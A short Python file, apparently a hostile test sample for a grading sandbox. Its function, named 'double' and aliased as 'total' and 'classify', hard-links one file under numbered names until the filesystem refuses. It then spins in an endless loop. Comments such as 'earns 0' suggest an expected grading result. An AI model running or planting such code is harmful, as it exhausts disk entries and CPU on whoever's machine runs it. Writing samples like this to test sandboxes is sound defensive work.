"""Fills its folder with links, which take no room, until no more names can be made."""

# earns 0
# slow
import os


def double(x):
    open("one", "w").close()
    number = 0
    try:
        while True:
            os.link("one", str(number))
            number += 1
    except OSError:
        while True:
            pass


total = classify = double
